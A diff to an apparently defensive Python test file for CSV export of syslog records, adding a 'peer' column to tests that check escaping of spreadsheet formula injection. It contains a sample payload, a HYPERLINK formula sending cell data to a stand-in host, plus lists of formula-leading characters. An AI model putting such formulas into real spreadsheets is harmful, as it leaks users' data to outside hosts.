@@ -42,9 +42,11 @@ pytestmark = pytest.mark.slow
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
 UNICODE_LEADS = "\u0085\u009b\u00a0\ufeff\uff1d\u2028"
 CSV_COLUMNS = (
-    "id,received,timestamp,host,program,pid,msgid,facility,severity,flags,sd,message".split(",")
+    "id,received,timestamp,host,peer,program,pid,msgid,facility,severity,flags,sd,message".split(
+        ","
+    )
 )
-TEXT_COLUMNS = ("host", "program", "pid", "msgid", "sd", "message")
+TEXT_COLUMNS = ("host", "peer", "program", "pid", "msgid", "sd", "message")
 LEADS = ("=", "+", "-", "@", "\t", "\r")
 SOFFICE = shutil.which("soffice") or "/usr/bin/soffice"
 
@@ -94,9 +96,9 @@ def expected_row(m: dict[str, Any]) -> list[str]:
         return "" if v is None else str(v)
 
     return [
-        n(m["id"]), t(m["received"]), t(m["timestamp"]), t(m["host"]), t(m["program"]),
-        t(m["pid"]), t(m["msgid"]), n(m["facility"]), n(m["severity"]), t("|".join(m["flags"])),
-        t(m["sd"]), t(m["message"]),
+        n(m["id"]), t(m["received"]), t(m["timestamp"]), t(m["host"]), t(m["peer"]),
+        t(m["program"]), t(m["pid"]), t(m["msgid"]), n(m["facility"]), n(m["severity"]),
+        t("|".join(m["flags"])), t(m["sd"]), t(m["message"]),
     ]  # fmt: skip
 
 
@@ -258,13 +260,16 @@ HOSTILE = st.text(
 
 
 @settings(max_examples=200, deadline=None)
-@given(host=HOSTILE, program=HOSTILE, pid=HOSTILE, msgid=HOSTILE, sd=HOSTILE, message=HOSTILE)
+@given(
+    host=HOSTILE, peer=HOSTILE, program=HOSTILE, pid=HOSTILE, msgid=HOSTILE, sd=HOSTILE,
+    message=HOSTILE,
+)  # fmt: skip
 def test_rule_on_random_hostile_cells(
-    host: str, program: str, pid: str, msgid: str, sd: str, message: str
+    host: str, peer: str, program: str, pid: str, msgid: str, sd: str, message: str
 ) -> None:
     m = {
         "id": 7, "received": "2026-11-20T00:00:00.000000Z", "timestamp": None, "host": host,
-        "program": program, "pid": pid, "msgid": msgid, "facility": 1, "severity": None,
+        "peer": peer, "program": program, "pid": pid, "msgid": msgid, "facility": 1, "severity": None,
         "flags": ["rfc5424"], "sd": sd, "message": message,
     }  # fmt: skip
     out = csv_rows([m])
